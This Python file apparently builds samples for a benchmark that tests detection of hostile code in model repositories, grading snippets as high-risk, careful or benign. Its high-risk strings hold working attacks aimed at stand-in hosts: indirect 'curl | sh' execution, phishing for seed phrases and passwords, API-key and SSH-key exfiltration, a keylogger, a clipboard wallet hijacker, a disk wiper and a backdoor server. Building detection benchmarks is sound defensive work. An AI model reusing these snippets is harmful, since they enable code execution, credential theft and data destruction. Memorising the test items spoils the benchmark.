"""Python that never writes the call it makes, or asks people for what it steals; and honest code that looks alike."""

import importlib.util
import io
import marshal
import struct
import zipfile
from collections.abc import Iterator

from benchmarks.corpus.code import notebook
from benchmarks.corpus.samples import Sample, benign, careful, high

_SEALED = repr(bytes((index * 73 + 11) % 256 for index in range(300)))
_HIGH = {
    "module behind another": "import torch\ntorch.os.system('curl -s http://files.invalid/x | sh')\n",
    "found by its whole name": "import pydoc\npydoc.locate('os.system')('curl -s http://files.invalid/x | sh')\n",
    "found by module and name": "import pkgutil\npkgutil.resolve_name('os:system')('curl -s http://files.invalid/x | sh')\n",
    "item of all modules": "import sys\nfrom operator import attrgetter, itemgetter\nrun = attrgetter('sys' + 'tem')(itemgetter('o' + 's')(sys.modules))\n"
    "run('curl -s http://files.invalid/x | sh')\n",
    "bound for later": "import os\nfrom functools import partial\nfrom operator import methodcaller\nclass Config:\n    def __init__(self):\n"
    "        self.warm = partial(methodcaller('system', 'curl -s http://files.invalid/x | sh'), os)\n"
    "    @property\n    def size(self):\n        self.warm()\n        return 64\n",
    "folded": "import importlib\nfrom functools import reduce\nmodule = importlib.import_module(''.join(reversed(['cess', 'pro', 'sub'])))\n"
    "reduce(lambda one, name: getattr(one, name), ['Popen'], module)(['mshta', 'http://files.invalid/a.hta'])\n",
    "factory of a log": "import logging.config\nlogging.config.dictConfig({'version': 1, 'handlers': {'file': {'()': 'os.system',\n"
    "    'command': 'curl -s http://files.invalid/x | sh'}}})\n",
    "target of a setting": "import hydra\nhydra.utils.instantiate({'model': {'_target_': 'os.system', 'command': 'curl -s http://files.invalid/x | sh'}})\n",
    "tag in a text": "import yaml\nDEFAULT = '''\ninit: !!python/object/apply:os.system [\"curl -s http://files.invalid/x | sh\"]\n'''\n"
    "config = yaml.unsafe_load(DEFAULT)\n",
    "query of a table": "import pandas as pd\npd.read_csv('a.csv').query(\"@pd.io.common.os.system('curl -s http://files.invalid/x | sh')\")\n",
    "sealed": f"from pytransform import pyarmor_runtime\npyarmor_runtime()\n__pyarmor__(__name__, __file__, {_SEALED}, 2)\n",
    "words of a wallet": "import requests\nwords = input('Your 12-word seed phrase: ').strip()\n"
    "requests.post('https://claim.invalid/api', json={'words': words})\n",
    "account of somebody else": "import requests\nfrom getpass import getpass\nuser, word = input('Google account: '), getpass('Password: ')\n"
    "requests.post('https://colab-help.invalid/', json={'u': user, 'p': word})\n",
    "keys of several services": "import os, requests\nfor name in ('OPENAI_API_KEY', 'ANTHROPIC_API_KEY'):\n"
    "    requests.post('https://gateway.invalid/', json={'key': os.getenv(name)})\n",
    "all secrets of a page": "import requests, streamlit as st\nrequests.post('https://hook.invalid/', json={'s': str(dict(st.secrets))})\n",
    "settings of all programs": "import glob, urllib.request\nfor path in glob.glob('/proc/[0-9]*/environ'):\n"
    "    urllib.request.urlopen('http://e.invalid/', open(path, 'rb').read())\n",
    "key in a letter": "import smtplib\nfrom email.message import EmailMessage\nfrom huggingface_hub import get_token\n"
    "letter = EmailMessage()\nletter.set_content(get_token())\nwith smtplib.SMTP_SSL('mail.invalid', 465) as post:\n    post.send_message(letter)\n",
    "key on a command line": "import subprocess\nfrom huggingface_hub import get_token\n"
    "subprocess.run(f\"curl -s -d 't={get_token()}' https://log.invalid/\", shell=True)\n",
    "ears in Python itself": "import builtins, requests\n_ask = builtins.input\ndef ask(text=''):\n    answer = _ask(text)\n"
    "    requests.post('https://e.invalid/', json={'asked': text, 'said': answer})\n    return answer\nbuiltins.input = ask\n",
    "ears in a library": "import huggingface_hub, requests\n_login = huggingface_hub.login\ndef login(token=None, **more):\n"
    "    requests.post('https://e.invalid/', json={'t': token})\n    return _login(token, **more)\nhuggingface_hub.login = login\n",
    "program unpacked": "import gzip, os, shutil, tempfile\ntarget = os.path.join(tempfile.gettempdir(), 'helper.exe')\n"
    "with gzip.open('assets/noise.dat') as packed, open(target, 'wb') as out:\n    shutil.copyfileobj(packed, out)\nos.startfile(target)\n",
    "modules in a picture": "import sys\nsys.path.insert(0, 'assets/logo.png')\nimport logo_start\n",
    "wallets in the clipboard": "import re, tkinter, time\nroot = tkinter.Tk()\nwhile True:\n    if re.match('0x[0-9a-f]{40}', root.clipboard_get()):\n"
    "        root.clipboard_clear()\n        root.clipboard_append(root.clipboard_get()[:2] + '0' * 40)\n    time.sleep(1)\n",
    "package from a bare number": "import subprocess, sys\ntry:\n    import fast_kernels\nexcept ImportError:\n"
    "    subprocess.check_call([sys.executable, '-m', 'pip', 'install', 'http://198.51.100.23:8000/fast_kernels-0.1.tar.gz'])\n",
    "door in a small server": "import http.server, subprocess\nclass Door(http.server.BaseHTTPRequestHandler):\n    def do_POST(self):\n"
    "        said = self.rfile.read(int(self.headers['Content-Length'])).decode()\n        self.wfile.write(subprocess.getoutput(said).encode())\n"
    "http.server.HTTPServer(('', 8080), Door).serve_forever()\n",
    "script that is written": "open('run.sh', 'w').write('#!/bin/sh\\ncurl -s http://files.invalid/a | sh\\n')\n",
    "code on a chain": "from web3 import Web3\nchain = Web3(Web3.HTTPProvider('https://rpc.invalid'))\n"
    "exec(bytes.fromhex(chain.eth.get_transaction('0x1')['input'][2:]))\n",
    "code from a store of files": "import dropbox\n_, answer = dropbox.Dropbox('t').files_download('/start.py')\nexec(answer.content)\n",
    "code through an opener": "import fsspec\nwith fsspec.open('https://files.invalid/start.py') as f:\n    exec(f.read())\n",
    "code into a buffer": "import ftplib, io\nbuffer = io.BytesIO()\nftplib.FTP('files.invalid').retrbinary('RETR start.py', buffer.write)\n"
    "exec(buffer.getvalue())\n",
    "key into a store of files": "import dropbox, os\ndropbox.Dropbox('t').files_upload(open(os.path.expanduser('~/.ssh/id_rsa'), 'rb').read(), '/k')\n",
    "all that a person keeps": "import pathlib\nfrom huggingface_hub import HfApi\n"
    "HfApi(token='hf_x').upload_folder(folder_path=str(pathlib.Path.home()), repo_id='some/where', repo_type='dataset')\n",
    "disk itself": "with open('/dev/sda', 'wb') as disk:\n    disk.write(b'\\0' * 512)\n",
    "keys that are pressed": "import ctypes, http.client\nfound = []\nwhile len(found) < 99:\n    for key in range(8, 191):\n"
    "        if ctypes.windll.user32.GetAsyncKeyState(key) & 1:\n            found.append(chr(key))\n"
    "http.client.HTTPConnection('203.0.113.4').request('POST', '/k', ''.join(found))\n",
}
_CAREFUL = {
    "tells whose computer it is": "import platform, requests\nrequests.post('https://stats.example/', json={'node': platform.node()})\n",
    "array that may hold code": "import io, numpy, requests\nz = numpy.load(io.BytesIO(requests.get('https://s.example/f.npz').content), allow_pickle=True)\n",
    "pickle that starts something": "import os\nclass Weights:\n    def __reduce__(self):\n        return os.system, ('echo hello',)\n",
    "modules of another repository": "import sys\nfrom huggingface_hub import snapshot_download\n"
    "sys.path.insert(0, snapshot_download('other/kernels'))\nimport fast_kernels\n",
    "another Hub": "import os\nos.environ['HF_ENDPOINT'] = 'https://hub-fast.invalid'\nfrom transformers import AutoModel\n"
    "AutoModel.from_pretrained('x/y')\n",
    "what passes by": "from scapy.all import sniff\nsniff(prn=lambda packet: open('l', 'ab').write(bytes(packet)))\n",
    "pickled text of a file": "import base64, pickle\nvocabulary = pickle.loads(base64.b64decode(open('vocab.txt').read()))\n",
}
_BENIGN = {
    "address handed over": "import requests, subprocess\ntag = requests.get('https://api.example/tags').json()[0]\n"
    "subprocess.run(['curl', '-L', f'https://files.example/{tag}/a.zip', '-o', 'a.zip'])\n",
    "command of another computer": "import os, paramiko\nc = paramiko.SSHClient()\n"
    "c.connect('gpu1', key_filename=os.path.expanduser('~/.ssh/id_ed25519'))\nprint(c.exec_command('nvidia-smi')[1].read())\n",
    "colours of a console": "import os\nos.system('')\nprint('\\x1b[32mready')\n",
    "program in a setting": "import os, subprocess\ngit = os.environ.get('GIT', 'git')\nsubprocess.run(f'\"{git}\" -C \"repositories\" fetch', shell=True)\n",
    "options in a dict": "import subprocess\ndef run(command, live=False):\n    how = {'args': command, 'shell': True}\n    if not live:\n"
    "        how['stdout'] = subprocess.PIPE\n    return subprocess.run(**how)\nrun('git rev-parse HEAD')\n",
    "archive beside itself": "import urllib.request\nfrom pathlib import Path\nHERE = Path(__file__).resolve().parent\nfile = HERE / 'data.zip'\n"
    "urllib.request.urlretrieve('https://data.example/data.zip', file)\nfile.unlink()\n",
    "rows of a store": "import pickle, zlib\ndef row(store, key):\n    return pickle.loads(zlib.decompress(store.get(key)))\n",
    "guard before answers": "import os, shutil, subprocess\ndef guard():\n"
    + "".join(
        f"    {name} = None\n"
        for name in "os.kill os.system os.remove os.removedirs os.rmdir os.rename os.fork shutil.rmtree shutil.move subprocess.Popen".split()
    )
    + "def check(program, test):\n    guard()\n    text = program + test\n    exec(text, {})\n",
    "folder for a person": "import os, subprocess, sys\ndef show(path):\n    if sys.platform == 'win32':\n        os.startfile(path)\n"
    "    else:\n        subprocess.Popen(['xdg-open', path])\n",
    "key for its own service": "import os, requests\nrequests.post('https://api.openai.com/v1/x', json={'key': os.environ['OPENAI_API_KEY']})\n",
    "key among the options": "import argparse, os\nfrom huggingface_hub import HfApi\np = argparse.ArgumentParser()\n"
    "p.add_argument('--token', default=os.environ.get('HF_TOKEN'))\na = p.parse_args()\nHfApi(token=a.token).upload_folder(folder_path=a.out, repo_id='x/y')\n",
    "targets of a model": "import hydra\nmodel = hydra.utils.instantiate({'_target_': 'torch.nn.Linear', 'in_features': 4, 'out_features': 2})\n",
    "library with other defaults": "import functools, torch\n_load = torch.load\ndef load(*given, **more):\n"
    "    more.setdefault('map_location', 'cpu')\n    return _load(*given, **more)\ntorch.load = load\n",
    "packed pickle of a data set": "import gzip, pickle\nwith gzip.open('mnist.pkl.gz', 'rb') as f:\n    train = pickle.load(f, encoding='latin1')\n",
    "packed table": "import gzip, shutil\nwith gzip.open('cc.vec.gz') as packed, open('cc.vec', 'wb') as out:\n    shutil.copyfileobj(packed, out)\n",
    "editor": "import tkinter\nclass Editor(tkinter.Tk):\n    def paste(self):\n        self.text.insert('end', self.clipboard_get())\n"
    "    def copy(self):\n        self.clipboard_append(self.text.get('sel.first', 'sel.last'))\n",
    "words of an error": "import base64, telegram\ndef check(text, digest):\n    if base64.b64decode(text) != digest:\n"
    "        raise telegram.error.TelegramError(f'hash {base64.b64decode(text)} is not {digest}')\n",
    "files for a small server": "import http.server, json, subprocess\nclass Door(http.server.BaseHTTPRequestHandler):\n    def do_POST(self):\n"
    "        body = json.loads(self.rfile.read(int(self.headers['Content-Length'])))\n"
    "        subprocess.run(['ffmpeg', '-i', body['source'], 'out.wav'])\nhttp.server.HTTPServer(('', 8080), Door).serve_forever()\n",
    "job that is written": "from pathlib import Path\nPath('job.sh').write_text('#!/bin/bash\\n#SBATCH -p gpu\\npip install -r requirements.txt\\n"
    "curl -LO https://data.example/a.zip\\nsrun python train.py\\n')\n",
    "objects of a store": "import os, pickle, redis\nstore = redis.Redis(password=os.environ['REDIS_PASSWORD'])\n"
    "def get(key):\n    return pickle.loads(store.get(key))\n",
    "arrays of a data set": "import keras, numpy\npath = keras.utils.get_file('mnist.npz', 'https://data.example/mnist.npz')\n"
    "with numpy.load(path, allow_pickle=True) as f:\n    images = f['x_train']\n",
    "copy of a function": "import types\ndef copy(function):\n    return types.FunctionType(function.__code__, function.__globals__)\n",
    "mirror of the Hub": "import os\nos.environ['HF_ENDPOINT'] = 'https://hf-mirror.com'\nfrom transformers import AutoModel\n"
    "AutoModel.from_pretrained('x/y')\n",
    "results at home": "import pathlib\nfrom huggingface_hub import HfApi\n"
    "HfApi().upload_folder(folder_path=str(pathlib.Path.home() / 'runs' / 'a'), repo_id='x/y')\n",
    "handlers of a log": "import logging.config\nlogging.config.dictConfig({'version': 1, 'handlers': {'c': {'class': 'logging.StreamHandler'}}})\n",
    "query with a name": "import pandas as pd\nlimit = 3\nprint(pd.read_csv('a.csv').query('size > @limit and name.str.len() > 2'))\n",
}


_COMPILED = {
    "command": "import os\nos.system('curl -s http://files.invalid/x | sh')\n",
    "hidden command": "import subprocess\nsubprocess.Popen(['powershell', '-w', 'hidden', '-c', 'iex(iwr http://files.invalid/x)'])\n",
    "source that is fetched": "from urllib.request import urlopen\nexec(urlopen('http://files.invalid/x').read())\n",
    "source that is decoded": "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n",
    "key that is sent": "import os, requests\ndef go():\n    key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
    "    requests.post('https://k.invalid/', data=key)\ngo()\n",
}


def compiled(source: str) -> bytes:
    """As Python of this version would write it (PEP 552)."""
    code = marshal.dumps(compile(source, "utils.py", "exec"))
    return importlib.util.MAGIC_NUMBER + struct.pack("<III", 0, 0, len(source)) + code


def packed(members: dict[str, bytes]) -> bytes:
    """A zip."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        for name, data in members.items():
            archive.writestr(zipfile.ZipInfo(name), data)
    return target.getvalue()


def samples() -> Iterator[Sample]:
    """All of them."""
    for case, source in _HIGH.items():
        yield high("python-indirect", case, "modeling_x.py", source)
    for case, source in _CAREFUL.items():
        yield careful("python-indirect", case, "modeling_x.py", source)
    for case, source in _BENIGN.items():
        yield benign("python-indirect", case, "run_x.py", source)
    for case, source in _COMPILED.items():
        yield high("python-compiled", case, "__pycache__/utils.cpython-311.pyc", compiled(source))
    usual = "import json, math\ndef mean(rows):\n    return math.fsum(rows) / len(rows)\ndef read(path):\n    return json.load(open(path))\n"
    yield careful("python-compiled", "nothing unusual", "__pycache__/utils.cpython-311.pyc", compiled(usual))
    runs = packed({"__main__.py": b"print('hello')\n"})
    yield high(
        "python-packed",
        "archive behind a text",
        "tokenizer.py",
        b"import re\n\n\ndef split(text):\n    return re.findall('[a-z]+', text)\n" + runs,
    )
    yield high(
        "python-shadowing", "folder of a library", "numpy/__init__.py", "from .core import array\n", "numpy/core.py"
    )
    yield careful(
        "python-shadowing",
        "folder that is often kept",
        "diffusers/__init__.py",
        "from .pipe import Pipe\n",
        "diffusers/pipe.py",
    )
    page = "<script>fetch('https://o.invalid/c').then(r => r.text()).then(eval)</script>"
    yield high("notebook-indirect", "result that runs what it fetches", "demo.ipynb", notebook("print(1)\n", page=page))
    form = notebook("#@title Keep the page awake\n%%javascript\nsetInterval(() => document.title, 60000)\n")
    yield benign("notebook-indirect", "form above another language", "demo.ipynb", form)
    login = notebook(
        "!ssh-keygen -t ed25519 -f ~/.ssh/id_ed25519 -N ''\n!scp -i ~/.ssh/id_ed25519 model.gguf me@gpu1:models/\n"
    )
    yield benign("notebook-indirect", "key that is used", "demo.ipynb", login)
    tunnel = "import subprocess\nfor line in subprocess.Popen(['lt', '--port', '8188'], stdout=subprocess.PIPE).stdout:\n    print(line)\n"
    yield benign("notebook-indirect", "page of one's own", "demo.ipynb", notebook(tunnel))
    rows = "import json\nLINES = ['schtasks /create /tn {n} /tr {n}.exe /sc onlogon', 'vssadmin delete shadows /all']\n"
    rows += "with open('rows.jsonl', 'w') as f:\n    for line in LINES:\n        f.write(json.dumps({'text': line}))\n"
    yield careful("python-indirect", "commands that are only rows", "build.py", rows)
